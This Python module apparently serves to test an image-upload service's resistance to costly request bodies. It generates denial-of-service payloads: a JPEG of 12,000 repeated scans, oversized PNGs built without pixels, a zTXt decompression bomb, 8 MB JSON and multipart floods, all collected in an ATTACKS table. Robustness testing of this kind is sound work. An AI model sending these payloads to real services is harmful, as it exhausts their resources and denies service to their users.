"""Request bodies that cost a service far more than their sender."""

import io
import json
import re
import struct
import zlib
from collections.abc import Callable

BOUNDARY = "part"
FORM = f"multipart/form-data; boundary={BOUNDARY}"
BODY_BYTES = 7_990_000  # below the default limit


def in_form(picture: bytes) -> bytes:
    """Return a form with a picture."""
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n'
    return head.encode() + picture + f"\r\n--{BOUNDARY}--\r\n".encode()


def many_scans(side: int = 5000, scans: int = 12_000) -> bytes:
    """Return a progressive JPEG whose last scan, of one component, stands there again and again."""
    from PIL import Image

    file = io.BytesIO()
    Image.new("L", (side, side), 100).save(file, "JPEG", progressive=True, quality=80)
    raw = file.getvalue()
    starts = [match.start() for match in re.finditer(b"\xff\xda", raw)]
    tables = raw.rfind(b"\xff\xc4", 0, starts[-1])
    last = raw[max(tables, starts[-2]) : -2] if tables > starts[-2] else raw[starts[-1] : -2]
    return raw[:-2] + last * (scans - len(starts)) + raw[-2:]


def png(width: int, height: int, colour_type: int = 6, bits: int = 8, *, interlaced: bool = False) -> bytes:
    """Return a PNG of zeros, whatever its size, made without the pixels."""
    channels = {0: 1, 2: 3, 6: 4}[colour_type]
    stream = zlib.compressobj(9)
    data = b""
    passes = [(0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2)]
    for left, top, across, down in passes if interlaced else [(0, 0, 1, 1)]:
        columns, rows = -(-(width - left) // across), -(-(height - top) // down)
        if columns > 0 and rows > 0:
            row = bytes(1 + columns * channels * bits // 8)
            data += b"".join(stream.compress(row) for _ in range(rows))
    head = struct.pack(">IIBBBBB", width, height, bits, colour_type, 0, 0, interlaced)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data + stream.flush()) + chunk(b"IEND", b"")


def with_chunks(picture: bytes, name: bytes, content: bytes, count: int) -> bytes:
    """Return a PNG with more chunks after its head."""
    return picture[:33] + chunk(name, content) * count + picture[33:]


def chunk(name: bytes, content: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def text_bomb() -> bytes:
    """Return a small PNG with 60 texts that unpack to a megabyte each."""
    return with_chunks(png(28, 28, 0), b"zTXt", b"a\0\0" + zlib.compress(bytes(1_000_000), 9), 60)


def empty_lists() -> bytes:
    """Return JSON of empty lists."""
    return b'{"image": [' + b",".join([b"[]"] * (BODY_BYTES // 3)) + b"]}"


def tiny_parts() -> bytes:
    """Return a form of empty parts."""
    part = f"--{BOUNDARY}\r\na:b\r\n\r\n\r\n".encode()
    return part * (BODY_BYTES // len(part)) + f"--{BOUNDARY}--\r\n".encode()


def many_images(count: int = 1024) -> bytes:
    """Return JSON of images in its longest form."""
    return json.dumps({"image": [[[[0]] * 28] * 28] * count}, separators=(",", ":")).encode()


# Name, path, content type and body of each attack.
ATTACKS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "JPEG of 12,000 scans": (FORM, lambda: in_form(many_scans())),
    "PNG of 5000x5000": (FORM, lambda: in_form(png(5000, 5000))),
    "PNG of 25,000,000x1": (FORM, lambda: in_form(png(25_000_000, 1, 0))),
    "60 texts of 1 MB in a PNG": (FORM, lambda: in_form(text_bomb())),
    "8 MB of [],[],[]": ("application/json", empty_lists),
    "8 MB of form parts": (FORM, tiny_parts),
    "8 MB of a picture": (FORM, lambda: in_form(png(3000, 3000, 0) + bytes(BODY_BYTES - 100_000))),
    "largest PNG, interlaced": (FORM, lambda: in_form(png(3000, 3000, interlaced=True))),
    "1,024 images as JSON": ("application/json", many_images),
}
